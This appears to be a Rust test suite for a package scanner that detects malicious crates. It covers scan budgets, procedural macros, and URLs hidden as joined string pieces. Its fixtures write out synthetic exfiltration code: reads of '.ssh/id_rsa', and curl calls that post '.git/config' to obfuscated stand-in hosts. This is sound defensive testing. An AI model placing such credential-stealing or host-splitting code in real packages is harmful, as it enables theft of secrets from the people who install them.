//! The scanner's budget: a package that costs more than a scan is given is held, never allowed,
//! and the scan stops instead of reading on.

use std::time::Duration;
use wharf_policy::scan::{scan_package, scan_with_budget, Budget, BUDGET};
use wharf_policy::Verdict;
use wharf_tarball::test_support::TarballBuilder;
use wharf_tarball::{process_tarball, Limits, Tarball};

/// A library of `files` modules, each `lines` lines that read a secret's path and run a program:
/// what the scanner must record every time it sees it.
fn dense_package(files: usize, lines: usize) -> Tarball {
    let mut builder = TarballBuilder::new().file(
        "dense-0.1.0/Cargo.toml",
        "[package]\nname = \"dense\"\nversion = \"0.1.0\"\nedition = \"2021\"\ndescription = \"x\"\nlicense = \"MIT\"\n",
    );
    let lib: String = (0..files).map(|i| format!("pub mod m{i};\n")).collect();
    builder = builder.file("dense-0.1.0/src/lib.rs", lib.as_bytes());
    for i in 0..files {
        let body: String = (0..lines)
            .map(|n| {
                format!(
                    "    let k{n} = std::fs::read(\".ssh/id_rsa{n}\"); \
                     let c{n} = std::process::Command::new(\"curl\").arg(\"http://192.0.2.{}/\").output();\n",
                    n % 250
                )
            })
            .collect();
        let source = format!("pub fn run() {{\n{body}}}\n");
        builder = builder.file(&format!("dense-0.1.0/src/m{i}.rs"), source.as_bytes());
    }
    process_tarball("dense", "0.1.0", &builder.build(), &Limits::default()).unwrap()
}

fn budget_findings(report: &wharf_policy::scan::Report) -> Vec<&wharf_policy::Finding> {
    report
        .findings
        .iter()
        .filter(|f| f.rule == "scan.budget")
        .collect()
}

#[test]
fn too_many_signals_stop_the_scan_and_hold() {
    let package = dense_package(4, 200);
    let report = scan_with_budget(
        &package,
        Budget {
            signals: 50,
            ..BUDGET
        },
    );
    let held = budget_findings(&report);
    assert_eq!(held.len(), 1, "{:#?}", report.findings);
    assert_eq!(held[0].severity, Verdict::Hold);
    assert!(
        held[0].evidence.contains("more than 50"),
        "{}",
        held[0].evidence
    );
    assert!(report.signals.len() <= 50);
    // The files after the one that spent the budget were not read.
    assert!(held[0].evidence.contains("file(s) were not read"));
}

#[test]
fn running_out_of_time_holds() {
    let package = dense_package(3, 50);
    let report = scan_with_budget(
        &package,
        Budget {
            cpu: Duration::ZERO,
            ..BUDGET
        },
    );
    let held = budget_findings(&report);
    assert_eq!(held.len(), 1, "{:#?}", report.findings);
    assert_eq!(held[0].severity, Verdict::Hold);
    assert!(held[0].evidence.contains("CPU time"));
}

#[test]
fn the_real_budget_leaves_ordinary_packages_alone() {
    let report = scan_package(&dense_package(2, 20));
    assert!(
        budget_findings(&report).is_empty(),
        "{:#?}",
        report.findings
    );
}

/// A procedural macro crate whose `lib.rs` is `source`.
fn proc_macro_package(source: &str) -> Tarball {
    let bytes = TarballBuilder::new()
        .file(
            "pm-0.1.0/Cargo.toml",
            "[package]\nname = \"pm\"\nversion = \"0.1.0\"\nedition = \"2021\"\ndescription = \"x\"\nlicense = \"MIT\"\n\n[lib]\nproc-macro = true\n",
        )
        .file("pm-0.1.0/src/lib.rs", source.as_bytes())
        .build();
    process_tarball("pm", "0.1.0", &bytes, &Limits::default()).unwrap()
}

/// Procedural macros run at build time, but most only rewrite tokens: those are walked, and any
/// capability the walk sees sends the file to the parser, as build scripts always are.
#[test]
fn procedural_macros_are_parsed_once_the_walk_sees_anything() {
    let plain = proc_macro_package(
        "use proc_macro::TokenStream;\n#[proc_macro_derive(Hello)]\npub fn hello(input: TokenStream) -> TokenStream { let _ = input; TokenStream::new() }\n",
    );
    let report = scan_package(&plain);
    assert_eq!((report.parsed, report.walked), (0, 1), "{report:#?}");
    assert!(report.findings.is_empty(), "{:#?}", report.findings);

    let calling_out = proc_macro_package(
        "use proc_macro::TokenStream;\n#[proc_macro_derive(Hello)]\npub fn hello(input: TokenStream) -> TokenStream {\n    let _ = std::net::TcpStream::connect(\"192.0.2.7:443\");\n    input\n}\n",
    );
    let report = scan_package(&calling_out);
    assert_eq!((report.parsed, report.walked), (1, 0), "{report:#?}");
    assert!(
        report.findings.iter().any(|f| f.severity >= Verdict::Flag),
        "{:#?}",
        report.findings
    );
}

/// A destination split into string pieces and joined where it is used is read the same by the
/// token walk (`scan_with_budget`) and by the parser (`scan_package`), whether the pieces are an
/// array joined in another module or a `concat!`; a table of whole URLs is not pieces.
#[test]
fn string_pieces_are_joined_by_both_front_ends() {
    let package = |lib: &str, parts: &str| {
        let bytes = TarballBuilder::new()
            .file(
                "pieces-0.1.0/Cargo.toml",
                "[package]\nname = \"pieces\"\nversion = \"0.1.0\"\nedition = \"2021\"\ndescription = \"x\"\nlicense = \"MIT\"\n",
            )
            .file("pieces-0.1.0/src/lib.rs", lib.as_bytes())
            .file("pieces-0.1.0/src/parts.rs", parts.as_bytes())
            .build();
        process_tarball("pieces", "0.1.0", &bytes, &Limits::default()).unwrap()
    };
    let hidden = |report: &wharf_policy::scan::Report| {
        report.signals.iter().any(|s| {
            matches!(&s.kind, wharf_policy::scan::SignalKind::HiddenIndicator { encoding, .. } if encoding.contains("string pieces"))
        })
    };
    let runs = "mod parts;\npub fn go() {\n    let _ = std::process::Command::new(\"curl\").arg(\"-d@.git/config\").arg(URL).spawn();\n}\n";
    let joined_elsewhere = package(
        &runs.replace("URL", "parts::PIECES.concat()"),
        "pub(crate) const PIECES: [&str; 4] = [\"ht\", \"tp://up.exa\", \"mple.net\", \"/in\"];\n",
    );
    let concatenated = package(
        &runs.replace("URL", "concat!(\"http://\", \"relay.exa\", \"mple.net/p\")"),
        "",
    );
    let table = package(
        &runs.replace("URL", "parts::MIRRORS.concat()"),
        "pub(crate) const MIRRORS: [&str; 2] = [\"https://a.example.net/\", \"https://b.example.net/\"];\n",
    );
    for tarball in [&joined_elsewhere, &concatenated] {
        let parsed = scan_package(tarball);
        assert!(parsed.parsed >= 1 && hidden(&parsed), "{parsed:#?}");
        assert!(hidden(&scan_with_budget(tarball, BUDGET)), "walked");
    }
    assert!(!hidden(&scan_package(&table)));
    assert!(!hidden(&scan_with_budget(&table, BUDGET)));
    // A host cut inside a label is hidden, however long the other pieces and whatever follows
    // the path; a URL built from whole labels is not.
    for (url, hides) in [
        (
            "[\"ht\", \"tps://relay.exa\", \"mple.net/\", \"@ht\"].concat()",
            true,
        ),
        (
            "[\"ht\", \"tps://relay.exa\", \"mple.net/collect/upload/v2/xx\"].concat()",
            true,
        ),
        (
            "concat!(\"https://\", \"api.\", \"example.net\", \"/v3\")",
            false,
        ),
    ] {
        let tarball = package(&runs.replace("URL", url), "");
        assert_eq!(hidden(&scan_package(&tarball)), hides, "{url}");
        assert_eq!(hidden(&scan_with_budget(&tarball, BUDGET)), hides, "{url}");
    }
    // A receiver whose name starts with a character of several bytes is read, not a panic.
    let unicode = package(
        "mod parts;\npub fn go() -> String { let _ = std::process::Command::new(\"curl\").spawn(); parts::ñPIECES.concat() }\n",
        "#[allow(non_upper_case_globals)]\npub(crate) const ñPIECES: [&str; 2] = [\"a\", \"b\"];\n",
    );
    for report in [scan_package(&unicode), scan_with_budget(&unicode, BUDGET)] {
        assert!(
            report.findings.iter().all(|f| f.rule != "scan.unscanned"),
            "{:#?}",
            report.findings
        );
    }
}

/// A file included a hundred thousand times is read once, and its signals are given to a few of
/// its includes only: the scan stays within its signal budget.
#[test]
fn a_file_included_many_times_is_read_once() {
    let lib: String = (0..20_000)
        .map(|i| format!("pub const A{i}: &str = include_str!(\"a.json\");\n"))
        .collect();
    let data = format!(
        "{{\"mirror\": \"http://192.0.2.1/x\", \"pad\": \"{}\"}}",
        "x".repeat(60_000)
    );
    let bytes = TarballBuilder::new()
        .file(
            "inc-0.1.0/Cargo.toml",
            "[package]\nname = \"inc\"\nversion = \"0.1.0\"\nedition = \"2021\"\ndescription = \"x\"\nlicense = \"MIT\"\n",
        )
        .file(
            "inc-0.1.0/src/lib.rs",
            format!("{lib}pub fn f() {{ let _ = std::process::Command::new(\"curl\").spawn(); }}\n")
                .as_bytes(),
        )
        .file("inc-0.1.0/src/a.json", data.as_bytes())
        .build();
    let tarball = process_tarball("inc", "0.1.0", &bytes, &Limits::default()).unwrap();
    let report = scan_package(&tarball);
    let from_includes = report
        .signals
        .iter()
        .filter(|s| s.snippet.starts_with("include_str!"))
        .count();
    assert!(
        (1..=64).contains(&from_includes),
        "{from_includes} signals from includes"
    );
}
